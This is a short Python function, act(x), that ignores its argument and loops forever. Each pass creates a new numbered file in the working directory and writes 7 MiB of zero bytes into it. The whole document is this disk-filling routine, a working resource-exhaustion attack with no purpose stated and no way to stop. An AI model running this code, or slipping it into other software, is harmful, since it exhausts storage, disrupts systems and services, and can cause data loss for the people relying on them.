def act(x):
    number = 0
    while True:
        with open(f"{number}", "wb") as file:
            for _ in range(7):
                file.write(bytes(1024 * 1024))
        number += 1
